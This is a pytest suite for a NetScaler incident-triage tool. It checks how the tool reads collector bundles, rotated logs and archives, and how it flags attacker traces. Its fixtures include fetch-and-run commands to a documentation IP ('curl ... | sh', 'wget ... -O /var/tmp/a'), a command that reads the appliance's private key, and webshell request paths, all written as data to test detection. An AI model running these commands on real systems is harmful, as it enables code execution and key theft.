"""``nscheck triage`` on artefact sets shaped like real ones: collector bundles (renamed, ``./``,
cluster), responders' tarballs and folders, rotated and compressed logs, real log formats."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest
import triage_bundle_fixtures as bf
import triage_fixtures as tf

from nscheck.model import Severity
from nscheck.paths import signatures_dir
from nscheck.signatures.triage import load
from nscheck.triage.context import TriageOptions
from nscheck.triage.runner import triage, triage_path
from nscheck.triage.sources import map_parts, open_source

OPTS = TriageOptions()


@pytest.fixture(scope="module")
def rules():
    return load(signatures_dir(None))


def _ids(r) -> set[str]:
    return {i.id for i in r.indicators}


def _by(r, rid: str) -> list:
    return [i for i in r.indicators if i.id == rid]


# -- layouts ---------------------------------------------------------------------------------


def test_clean_collector_bundle_is_silent_and_says_what_it_covered(rules, tmp_path):
    archive = bf.write_tar(bf.clean_bundle(), tmp_path / f"{bf.NAME}.tar.gz")
    r = triage_path(str(archive), OPTS, rules)
    assert r.indicators == (), [(i.id, i.path, i.evidence) for i in r.indicators]
    cov = r.coverage.to_dict()  # the coverage as reports and SIEMs get it
    assert cov["source"]["type"] == "support_bundle"
    assert cov["collected_at"] == "2026-11-20T11:30:00Z" and cov["collected_at_source"] == "bundle name"
    assert cov["collector_bundles"] == [bf.NAME]
    assert cov["collector_shell_outputs"] == 5
    logged = {x["path"] for x in cov["logs"]["listed"]}
    assert {"/var/log/ns.log.3.gz", "/var/log/httpaccess.log.2.gz", "/var/log/bash.log.0.gz"} <= logged
    assert not [p for p in logged if "newnslog" in p]  # binary: not read, but said so
    assert cov["families"]["log"]["newnslog_not_read"] == 2
    assert any("newnslog file(s)" in n for n in cov["families"]["log"]["notes"])
    missing = {m["area"] for m in cov["missing"]}
    assert "/nsconfig" not in missing and "/var/log" not in missing
    assert {"/var/netscaler/logon", "/var/tmp", "/netscaler/ns_gui"} <= missing
    # "nothing found" is only about what was examined, and the summary says so in words
    s = cov["summary"]
    assert "Absent from the input: " in s and "/var/netscaler/logon" in s
    assert "NOTHING to examine" in s and "webshell" in s.split("NOTHING to examine")[1]
    assert s.startswith("No indicator found in what was examined; this says nothing about what is absent.")
    assert cov["families"]["log"]["aaa_utf8_names"] == 3  # jürgen.müller in ns.log, .0.gz, .3.gz
    assert cov["families"]["log"]["webshell_probes_unanswered"] >= 2
    assert any("catch-all" in n for n in cov["families"]["log"].get("notes", []))
    assert r.build is not None and r.build.candidates == ("14.1-47.46",)


def test_compromised_collector_bundle(rules, tmp_path):
    archive = bf.write_tar(bf.bad_bundle(), tmp_path / f"{bf.NAME}.tar.gz")
    r = triage_path(str(archive), OPTS, rules)
    ids = _ids(r)
    assert {"NS-LOG-aaa-nonascii", "NS-LOG-tcpconnstat-ip-mismatch", "NS-LOG-webshell-request", "NS-LOG-script-request",
            "M23-shell-history", "M23-collector-processes", "NS-26-collector-listeners", "NS-LOG-cmd-executed"} <= ids
    cmds = _by(r, "NS-LOG-cmd-executed")
    assert {i.line for i in cmds} == {18, 19} and {i.path for i in cmds} == {"/var/log/ns.log.3.gz"}
    # only the bad lines of the shell history: one hit per attacker command, none for the admin's
    hist = _by(r, "M23-shell-history")
    assert {i.line for i in hist} == set(range(14, 14 + len(bf.BASH_BAD_COMMANDS))), [(i.line, i.evidence) for i in hist]
    assert all(i.path == "/var/log/bash.log" for i in hist)
    procs = _by(r, "M23-collector-processes")
    assert [i.path for i in procs] == ["/.collector/shell/ps_-auxww.out"] and "/var/tmp/.x/agent" in procs[0].evidence


def test_renamed_archive_dot_prefix_and_secondary_node(rules, tmp_path):
    top = "collector_S_10.0.0.11_20Nov2026_11_30"
    archive = bf.write_tar(bf.bad_bundle(), tmp_path / "case42_ns1.tgz", top=top, dot=True)
    r = triage_path(str(archive), OPTS, rules)
    assert r.coverage.source["type"] == "support_bundle"
    assert r.coverage.collected_at == "2026-11-20T11:30:00Z"  # from the top directory, not the file name
    assert "NS-LOG-aaa-nonascii" in _ids(r)
    assert {i.path for i in _by(r, "NS-LOG-aaa-nonascii")} == {"/var/log/ns.log.3.gz"}


def test_responder_tarball_of_var_and_flash(rules, tmp_path):
    specs = [tf.replace(s, path="/flash" + s.path) if s.path.startswith("/nsconfig/") else s
             for s in bf.bad_bundle() if not s.path.startswith("/shell/")]
    archive = bf.write_tar(specs, tmp_path / "ns1_var_flash.tar.gz", top="")
    r = triage_path(str(archive), OPTS, rules)
    assert r.coverage.source["type"] == "tar"
    assert "/nsconfig" not in {m["area"] for m in r.coverage.missing}  # /flash/nsconfig is /nsconfig
    assert r.coverage.config["ns.conf"] == "/flash/nsconfig/ns.conf"
    assert {"NS-LOG-aaa-nonascii", "M23-shell-history"} <= _ids(r)


@pytest.mark.parametrize("wrapper", ["evidence/ns1", "support/" + bf.NAME])
def test_wrapper_directories_are_stripped(rules, tmp_path, wrapper):
    archive = bf.write_tar(bf.bad_bundle(), tmp_path / "w.tar.gz", top=wrapper)
    r = triage_path(str(archive), OPTS, rules)
    assert "/var/log/bash.log" in {i.path for i in _by(r, "M23-shell-history")}
    assert r.coverage.config["ns.conf"] == "/nsconfig/ns.conf"
    assert (r.coverage.source["type"] == "support_bundle") is wrapper.endswith(bf.NAME)


def test_unpacked_bundle_with_another_top_name(rules, tmp_path):
    bf.write_dir(bf.bad_bundle(), tmp_path / "in" / "mybundle")
    r = triage_path(str(tmp_path / "in"), OPTS, rules)
    assert r.coverage.source["type"] == "support_bundle"
    assert {"M23-collector-processes", "NS-LOG-tcpconnstat-ip-mismatch"} <= _ids(r)


def test_flat_folder_of_logs_is_still_checked(rules, tmp_path):
    d = tmp_path / "logs_from_ns1"
    d.mkdir()
    (d / "ns.log.3.gz").write_bytes(bf.gz(bf.nslog_bad()))
    (d / "httpaccess.log.2.gz").write_bytes(bf.gz(bf.HTTPACCESS_BAD))
    (d / "bash.log").write_text(bf.bashlog(bf.BASH_BAD_COMMANDS[0]))
    (d / "README.txt").write_text("logs copied by the on-call engineer\n")
    r = triage_path(str(d), OPTS, rules)
    assert {"NS-LOG-aaa-nonascii", "NS-LOG-webshell-request", "M23-shell-history"} <= _ids(r)
    assert r.coverage.sources[0]["loose_files"] == 4
    assert "could not be placed in the appliance tree" in r.coverage.summary
    assert {m["area"] for m in r.coverage.missing} >= {"/nsconfig", "/var/netscaler/logon"}


def test_cluster_bundle_reads_every_node(rules, tmp_path):
    n1, n2 = "collector_P_10.0.0.10_20Nov2026_11_30", "collector_P_10.0.0.12_20Nov2026_11_30"
    archive = bf.write_cluster(tmp_path / "collector_cluster_10.0.0.100_20Nov2026_11_30.tar.gz",
                               {n1: bf.clean_bundle(), n2: bf.bad_bundle()})
    r = triage_path(str(archive), OPTS, rules)
    assert r.coverage.collector_bundles == (n1, n2)
    assert "NS-LOG-aaa-nonascii" in _ids(r)
    reasons = " ".join(n["reason"] for n in r.coverage.refused)
    assert "ONE appliance" in reasons
    assert [n["path"] for n in r.coverage.refused if n["what"] == "nested bundle"] == [
        f"collector_cluster_10.0.0.100_20Nov2026_11_30/{n}.tar.gz" for n in (n1, n2)]
    # the clean node's findings stay silent; the bad node's show up
    assert {i.path for i in _by(r, "M23-shell-history")} == {"/var/log/bash.log"}


def test_map_parts_layouts():
    assert map_parts(["collector_P_1.2.3.4_1Jan2026_00_00", "var", "log", "ns.log"]) == (
        "/var/log/ns.log", "collector_P_1.2.3.4_1Jan2026_00_00")
    assert map_parts(["collector_x", "shell", "ps.out"])[0] == "/.collector/shell/ps.out"
    assert map_parts(["case", "node", "flash", "nsconfig", "ns.conf"])[0] == "/flash/nsconfig/ns.conf"
    assert map_parts(["var", "tmp", "support", "collector_y", "var", "log", "ns.log"])[0] == \
        "/var/tmp/support/collector_y/var/log/ns.log"  # a bundle left on the appliance stays where it was
    assert map_parts(["logs", "ns.log"]) == ("/logs/ns.log", None)


# -- log details -----------------------------------------------------------------------------


def _nslog_tree(tmp_path: Path, name: str, data: bytes) -> Path:
    specs = [s for s in bf.clean_bundle() if not s.path.startswith("/var/log/ns.log")]
    specs.append(tf.f(f"/var/log/{name}", data))
    return bf.write_tar(specs, tmp_path / f"{bf.NAME}.tar.gz")


def test_aaa_variants_and_line_numbers_in_rotated_gzip(rules, tmp_path):
    text = bf.nslog_clean() + bf.nslog_bad()
    r = triage_path(str(_nslog_tree(tmp_path, "ns.log.3.gz", bf.gz(text))), OPTS, rules)
    hits = _by(r, "NS-LOG-aaa-nonascii")
    assert [i.line for i in hits] == [10, 11]  # lines of the decompressed file
    assert all(i.severity is Severity.HIGH for i in hits)
    assert "\\xa3\\xe8" in hits[0].evidence
    assert "escaped by syslogd" in hits[1].evidence


def test_tcpconnstat_one_lead_per_session(rules, tmp_path):
    text = bf.nslog_clean() + bf.nslog_bad()
    r = triage_path(str(_nslog_tree(tmp_path, "ns.log", text.encode("latin-1"))), OPTS, rules)
    hits = _by(r, "NS-LOG-tcpconnstat-ip-mismatch")
    assert len(hits) == 2
    carol = next(i for i in hits if "carol" in i.evidence)
    assert "session 77" in carol.evidence and "203.0.113.66, 203.0.113.67" in carol.evidence
    assert "(5 record(s))" in carol.evidence and carol.line == 12
    dave = next(i for i in hits if "dave jones" in i.evidence)
    assert "Source 203.0.113.68" in dave.evidence
    assert r.coverage.families["log"]["tcpconnstat_records"] == 8


def test_long_lines_do_not_shift_line_numbers(rules, tmp_path):
    text = bf.nslog_line("EVENT X 1", "A" * 200_000) + bf.aaa_rejected("\xa3\xe8\x07")
    r = triage_path(str(_nslog_tree(tmp_path, "ns.log", text.encode("latin-1"))), OPTS, rules)
    assert [i.line for i in _by(r, "NS-LOG-aaa-nonascii")] == [2]


def test_bzip2_rotation_and_decompression_cap(rules, tmp_path):
    archive = _nslog_tree(tmp_path, "ns.log.1.bz2", bf.bz(bf.nslog_bad()))
    assert "NS-LOG-aaa-nonascii" in _ids(triage_path(str(archive), OPTS, rules))
    bomb = gzip.compress(bf.nslog_clean().encode("latin-1") * 2000 + bf.aaa_rejected("\xa3\xe8").encode("latin-1"), mtime=0)
    r = triage_path(str(_nslog_tree(tmp_path, "ns.log.2.gz", bomb)), TriageOptions(max_log_bytes=100_000), rules)
    assert "NS-LOG-aaa-nonascii" not in _ids(r)
    assert any("first 100000 bytes" in u["reason"] for u in r.coverage.unreadable)


def test_access_log_normalisation_and_catch_all(rules, tmp_path):
    specs = tf.merged(bf.clean_bundle(), [tf.f("/var/log/httpaccess.log", bf.HTTPACCESS_CLEAN + bf.HTTPACCESS_BAD)])
    r = triage_path(str(bf.write_tar(specs, tmp_path / f"{bf.NAME}.tar.gz")), OPTS, rules)
    known = _by(r, "NS-LOG-webshell-request")
    assert [(i.path, i.line) for i in known if i.path == "/var/log/httpaccess.log"] == [("/var/log/httpaccess.log", 12)]
    assert "POST /logon/LogonPoint/receiver/js/localization/de.php answered 200" in known[0].evidence
    script = [i for i in _by(r, "NS-LOG-script-request") if i.path == "/var/log/httpaccess.log"]
    assert [i.line for i in script] == [13] and "via a '..' path" in script[0].evidence
    # the catch-all answers (4 script paths, one size) and the management GUI's PHP stay silent
    assert not [i for i in r.indicators if i.line in (3, 7, 8, 9, 10, 11) and i.path == "/var/log/httpaccess.log"]


def test_history_files_outside_var_log(rules, tmp_path):
    specs = tf.merged(bf.clean_bundle(), [
        tf.f("/root/.bash_history", "ls\nchmod +x /var/tmp/x\n"),
        tf.f("/var/nstmp/nsroot/.nscli_history", "show ns ip\nshell cat /flash/nsconfig/keys/ns-server.key\n"),
        tf.f("/home/nsroot/.bash_history", "ls -l\ncd /var/log\n"),
    ])
    r = triage_path(str(bf.write_tar(specs, tmp_path / "t.tar.gz", top="")), OPTS, rules)
    got = {(i.path, i.line) for i in _by(r, "M23-shell-history")}
    assert got == {("/root/.bash_history", 2), ("/var/nstmp/nsroot/.nscli_history", 2)}


def test_bundle_plus_separate_web_root_copy_is_one_appliance(rules, tmp_path):
    archive = bf.write_tar(bf.clean_bundle(), tmp_path / f"{bf.NAME}.tar.gz")
    web = tf.write_dir([s for s in tf.clean_tree() if s.path.startswith("/var/netscaler/")], tmp_path / "web")
    r = triage([str(archive), str(web / "var")], OPTS, rules)
    assert r.indicators == ()
    missing = {m["area"] for m in r.coverage.missing}
    assert "/var/netscaler/logon" not in missing and "/nsconfig" not in missing
    assert r.coverage.collected_at_source == "bundle name"


def test_open_source_reports_bundle_for_renamed_archive(tmp_path):
    archive = bf.write_tar(bf.clean_bundle(), tmp_path / "x.tgz")
    src = open_source(str(archive))
    assert src.kind == "tar"  # unknown until read
    list(src.entries())
    assert src.kind == "support_bundle" and src.bundle_time is not None


def test_evidence_folder_holding_the_bundle_archive(rules, tmp_path):
    case = tmp_path / "case42"
    case.mkdir()
    bf.write_tar(bf.bad_bundle(), case / f"{bf.NAME}.tar.gz")
    (case / "notes.txt").write_text("received from the customer 20 Nov\n")
    r = triage_path(str(case), OPTS, rules)
    assert r.coverage.source["type"] == "support_bundle"
    assert r.coverage.collected_at == "2026-11-20T11:30:00Z"
    assert {"NS-LOG-aaa-nonascii", "M23-collector-processes"} <= _ids(r)
    # an unpacked copy beside the archive is read once, not twice
    bf.write_dir(bf.bad_bundle(), case / bf.NAME)
    r2 = triage_path(str(case), OPTS, rules)
    assert len(_by(r2, "M23-shell-history")) == len(_by(r, "M23-shell-history"))
    assert any(n["what"] == "not read" for n in r2.coverage.refused)


def test_log_time_range_is_iso_when_the_line_has_a_year(rules, tmp_path):
    r = triage_path(str(bf.write_tar(bf.clean_bundle(), tmp_path / f"{bf.NAME}.tar.gz")), OPTS, rules)
    ns = next(x for x in r.coverage.logs["listed"] if x["path"] == "/var/log/ns.log")
    assert ns["first"] == "2026-11-20T09:00:00Z"
    acc = next(x for x in r.coverage.logs["listed"] if x["path"] == "/var/log/httpaccess.log")
    assert acc["first"] == "2026-11-20T09:00:00Z"
    assert "earliest record 2026-11-20T09:00:00Z" in r.coverage.summary


def test_search_commands_are_ignored_per_command_not_per_line(rules, tmp_path):
    lines = "".join(bf.bashlog(c) for c in (
        "ps aux | grep nsppe; curl -s http://203.0.113.50/x | sh",  # attacker, with a grep elsewhere
        "wget -q http://203.0.113.50/a -O /var/tmp/a # grep",  # an appended "grep" hides nothing
        "zcat /var/log/bash.log.0.gz | grep -a 'curl -s http://203.0.113.50/x | sh'",  # a responder searching
        "grep -E 'ldapsearch |python -c ' /var/log/bash.log",
    ))
    specs = tf.merged(bf.clean_bundle(), [tf.f("/var/log/bash.log", lines)])
    r = triage_path(str(bf.write_tar(specs, tmp_path / f"{bf.NAME}.tar.gz")), OPTS, rules)
    assert sorted(i.line for i in _by(r, "M23-shell-history") if i.path == "/var/log/bash.log") == [1, 2]


def test_floods_are_summarised_not_dumped(rules, tmp_path):
    shell_use = "".join(bf.access("91.107.190.236", "POST", "/logon/LogonPoint/tmindex.php", 200, 10 + i) for i in range(300))
    flood = "".join(bf.aaa_rejected(f"\xa3\xe8{i % 10}\x07") for i in range(100))
    specs = tf.merged(bf.clean_bundle(), [tf.f("/var/log/httpaccess.log", shell_use), tf.f("/var/log/ns.log", flood.encode("latin-1"))])
    r = triage_path(str(bf.write_tar(specs, tmp_path / f"{bf.NAME}.tar.gz")), OPTS, rules)
    shells = [i for i in _by(r, "NS-LOG-webshell-request") if i.path == "/var/log/httpaccess.log"]
    assert len(shells) == 1 and "[300 answered requests for this URL in all" in shells[0].evidence and shells[0].line == 1
    aaa = [i for i in _by(r, "NS-LOG-aaa-nonascii") if i.path == "/var/log/ns.log"]
    assert len(aaa) == 20
    log_cov = r.coverage.families["log"]
    assert log_cov["hits_over_cap"] >= 80
    assert any("more than 20 matching lines in /var/log/ns.log" in n for n in log_cov["notes"])


def test_zip_from_a_windows_responder(rules, tmp_path):
    import zipfile

    # the collector archive as e-mailed, zipped
    z1 = tmp_path / "ns1_bundle.zip"
    archive = bf.write_tar(bf.bad_bundle(), tmp_path / f"{bf.NAME}.tar.gz")
    with zipfile.ZipFile(z1, "w") as z:
        z.write(archive, f"case42/{bf.NAME}.tar.gz")
        z.writestr("case42/notes.txt", "from the customer\n")
    r = triage_path(str(z1), OPTS, rules)
    assert r.coverage.source["type"] == "support_bundle"
    assert r.coverage.collected_at == "2026-11-20T11:30:00Z"
    assert {"NS-LOG-aaa-nonascii", "M23-shell-history", "M23-collector-processes"} <= _ids(r)
    # an unpacked bundle zipped on Windows (backslashes, no Unix modes), padded past 1 MB
    z2 = tmp_path / "unpacked.zip"
    with zipfile.ZipFile(z2, "w", compression=zipfile.ZIP_STORED) as z:
        for s in bf.bad_bundle():
            if s.kind == "file":
                z.writestr(f"{bf.NAME}\\{s.path.lstrip('/')}".replace("/", "\\"), s.data)
        z.writestr("padding.bin", b"\0" * (1024 * 1024 + 1))
    r2 = triage_path(str(z2), OPTS, rules)
    assert r2.coverage.source["type"] == "support_bundle"
    assert {"NS-LOG-aaa-nonascii", "NS-LOG-tcpconnstat-ip-mismatch"} <= _ids(r2)
    assert any("zip keeps no owners" in n for n in r2.coverage.metadata["notes"])


def test_7z_is_refused_with_a_clear_reason(rules, tmp_path):
    p = tmp_path / "bundle.7z"
    p.write_bytes(b"7z\xbc\xaf\x27\x1c" + b"\0" * 100)
    r = triage_path(str(p), OPTS, rules)
    assert r.error and "7z/rar archives are not read" in r.error


def test_tcpconnstat_behind_a_snat_proxy_is_one_lead(rules, tmp_path):
    text = "".join(bf.tcpconn(f"user{i}", f"198.51.100.{i}", "10.9.9.9", sid=str(100 + i)) for i in range(1, 40))
    text += bf.tcpconn("eve", "198.51.100.200", "203.0.113.70", sid="900")  # a real lead beside the proxy noise
    r = triage_path(str(_nslog_tree(tmp_path, "ns.log", text.encode("latin-1"))), OPTS, rules)
    hits = _by(r, "NS-LOG-tcpconnstat-ip-mismatch")
    assert len(hits) == 2
    proxy = next(i for i in hits if "10.9.9.9" in i.evidence)
    assert proxy.severity is Severity.LOW and "39 users" in proxy.evidence and proxy.line == 1
    assert any("user eve session 900" in i.evidence for i in hits)


def test_tcpconnstat_address_forms():
    from nscheck.triage.logs import _TC_CLIENT, _TC_SOURCE, _tc_user

    line = ("SSLVPN TCPCONNSTAT 1 0 : Context a b@203.0.113.5 - SessionId: 5- User a b - Client_ip 203.0.113.5, - "
            "Nat_ip 10.0.0.2 - Source [2001:db8::7]:443 - Destination 10.1.1.1:80")
    ms = _TC_SOURCE.search(line)
    assert _TC_CLIENT.search(line).group("ip") == "203.0.113.5" and _tc_user(line) == "a b"
    assert (ms.group("ip6"), ms.group("port")) == ("2001:db8::7", "443")
    ms = _TC_SOURCE.search("- Source 2001:db8::7:443 - x")
    assert (ms.group("ip"), ms.group("port")) == ("2001:db8::7", "443")
    ms = _TC_SOURCE.search("- Source 198.51.100.7:51000 - Destination 10.0.0.1:443")
    assert (ms.group("ip"), ms.group("port")) == ("198.51.100.7", "51000")


def test_input_without_netscaler_artefacts_is_unknown_not_clean(rules, tmp_path):
    d = tmp_path / "wrong_folder"
    (d / "docs").mkdir(parents=True)
    (d / "docs" / "readme.txt").write_text("nothing here\n")
    r = triage_path(str(d), OPTS, rules)
    assert r.indicators == ()
    assert r.verdict.value == "unknown"
    assert r.coverage.summary.startswith("NOT TRIAGED: nothing to triage")
    # a folder of logs alone is triage input (logs were examined)
    (d / "ns.log").write_text(bf.aaa_rejected("jdoe"))
    logs_only = triage_path(str(d), OPTS, rules)
    assert not logs_only.coverage.summary.startswith("NOT TRIAGED")
    assert logs_only.indicators == ()
    # no build in the input: nothing is known about bulletins, so not "not_vulnerable"
    assert logs_only.verdict.value == "unknown"
